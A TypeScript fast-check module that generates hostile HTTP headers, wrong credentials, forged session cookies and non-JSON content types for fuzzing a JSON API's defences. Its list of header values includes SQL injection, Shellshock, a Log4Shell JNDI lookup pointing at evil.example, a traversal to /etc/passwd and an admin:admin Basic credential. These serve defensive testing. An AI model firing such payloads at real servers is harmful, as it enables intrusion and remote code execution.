/**
 * Hostile headers: unknown and well-known names with garbage, latin-1 and very long values,
 * garbage `Authorization`, and content types that are not JSON.
 *
 * @module
 */
import fc from "fast-check";

/** Header values the Fetch API lets through: latin-1 without CR, LF or NUL. */
const headerValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.string({ unit: latin1(), maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc.tuple(
      fc.string({ unit: latin1(), minLength: 1, maxLength: 8 }),
      fc.integer({
        min: 1_000,
        max: 16_000,
      }),
    ).map(([s, n]) => s.repeat(Math.ceil(n / s.length)).slice(0, n)),
  },
  fc.constantFrom(
    "' OR 1=1 --",
    "() { :; }; echo vulnerable",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "\u00ff\u00fe",
    "gzip, deflate, br",
    "*/*;q=0.1",
  ),
);

function latin1(): fc.Arbitrary<string> {
  return fc.integer({ min: 0x20, max: 0xff }).filter((c) => c !== 0x7f).map((c) =>
    String.fromCharCode(c)
  );
}

const KNOWN_NAMES = [
  "accept",
  "accept-encoding",
  "accept-language",
  "cookie",
  "origin",
  "referer",
  "user-agent",
  "x-forwarded-for",
  "x-forwarded-host",
  "x-forwarded-proto",
  "x-request-id",
  "x-twilio-signature",
  "if-none-match",
  "range",
  "content-encoding",
  "content-language",
];

/** Header names the fuzzers set themselves, kept out of {@link extraHeaders}. */
const RESERVED = new Set(["authorization", "content-type", "content-length", "host"]);

const headerName = fc.oneof(
  fc.constantFrom(...KNOWN_NAMES),
  fc.stringMatching(/^[A-Za-z0-9!#$%&'*+.^_`|~-]{1,40}$/),
).filter((name) => !RESERVED.has(name.toLowerCase()));

/** A few random headers, as a plain object. */
export const extraHeaders: fc.Arbitrary<Record<string, string>> = fc.dictionary(
  headerName,
  headerValue,
  { maxKeys: 4 },
);

/** `Authorization` values that are not the admin's. */
const wrongAuthorization: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("", "Bearer", "Bearer ", "Basic YWRtaW46YWRtaW4=", "bearer null", "Bearer *"),
  headerValue.map((v) => `Bearer ${v}`),
  headerValue,
);

/** Dashboard session cookies that are forged, expired or malformed. */
const forgedSession: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(
    fc.constantFrom(0, 1, 4_102_444_800, 99_999_999_999),
    fc.base64String({ maxLength: 24 }),
    fc.base64String({ maxLength: 44 }),
  ).map(([expires, id, signature]) => `${expires}.${id}.${signature}`),
  headerValue.filter((v) => !/[;,]/.test(v)),
);

/** Credentials that are not the admin's: none, a wrong token, a forged session cookie. */
export const wrongCredentials: fc.Arbitrary<Record<string, string>> = fc.oneof(
  fc.constant({}),
  wrongAuthorization.map((authorization) => ({ authorization })),
  fc.tuple(forgedSession, fc.option(headerValue)).map(([session, csrf]) => ({
    cookie: `admin_session=${session}`,
    ...(csrf === null ? {} : { "x-csrf-token": csrf }),
  })),
);

/** Content types a JSON API must not parse as JSON (`null`: no header). */
export const notJsonContentType: fc.Arbitrary<string | null> = fc.oneof(
  fc.constant(null),
  fc.constantFrom(
    "text/plain",
    "text/plain;charset=UTF-8",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=----x",
    "application/xml",
    "application/jsonp",
    "text/json",
    "application/octet-stream",
    "json",
    "*/*",
  ),
  headerValue,
).filter((type) => type === null || !/^\s*application\/([\w.-]+\+)?json\s*(;|$)/i.test(type));

/** Content types the API parses as JSON. */
export const jsonContentType: fc.Arbitrary<string> = fc.constantFrom(
  "application/json",
  "application/json; charset=utf-8",
  "application/json;charset=UTF-8",
);
